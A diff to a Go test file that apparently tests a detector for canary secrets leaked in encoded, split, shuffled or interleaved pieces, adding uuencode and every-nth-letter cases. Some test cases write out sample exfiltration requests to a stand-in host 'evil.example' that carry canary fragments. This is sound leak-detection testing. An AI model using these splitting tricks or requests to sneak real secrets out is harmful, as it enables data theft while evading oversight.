@@ -36,6 +36,21 @@ func numbered(pieces []string) []string {
 	return pieces
 }
 
+func everyNth(text string, first, n int) string {
+	var b strings.Builder
+	for at := first; at < len(text); at += n {
+		b.WriteByte(text[at])
+	}
+	return b.String()
+}
+
+// What uuencode makes is known: "Cat" is 0V%T.
+func TestUuencoding(t *testing.T) {
+	if got := uuencoding.EncodeToString([]byte("Cat")); got != "0V%T" {
+		t.Error(got)
+	}
+}
+
 // A path is several words, and what base64 has of one is not.
 func TestWordsOfPaths(t *testing.T) {
 	for text, want := range map[string]string{"GET /0/k HTTP/1.1": "GET 0 k HTTP/1 1", "ab/cd+e /xy": "ab/cd+e /xy", "/a/": "a"} {
@@ -78,6 +93,9 @@ func TestCanariesInPieces(t *testing.T) {
 		{"base64 of more in any order", shuffled(inPieces(base64.StdEncoding.EncodeToString([]byte(`{"TOKEN":"`+v+`","x":"yz"}`)), 10)), many, true},
 		{"base32 in any order", shuffled(inPieces(strings.ToLower(base32.StdEncoding.EncodeToString([]byte("xy"+v))), 12)), one, true},
 		{"backwards in any order", shuffled(inPieces(text.Backwards(v), 8)), many, true},
+		{"uuencode", []string{"begin 644 x\nM" + uuencoding.EncodeToString([]byte("k="+v)) + "\n`\nend\n"}, one, true},
+		{"every second letter elsewhere", []string{everyNth(v, 0, 2), everyNth(v, 1, 2)}, many, true},
+		{"every third letter elsewhere, in any order", shuffled([]string{everyNth(v, 0, 3), everyNth(v, 1, 3), everyNth(v, 2, 3)}), many, true},
 		{"in requests", as("GET /collect?part=%s HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n", backwards(inPieces(v, 2))), one, true},
 		{"in longer requests, in any order", as("POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n{\"id\":\"%s\"}", shuffled(inPieces(v, 7))), many, true},
 		{"letter by letter, each elsewhere", inPieces(v, 1), many, true},
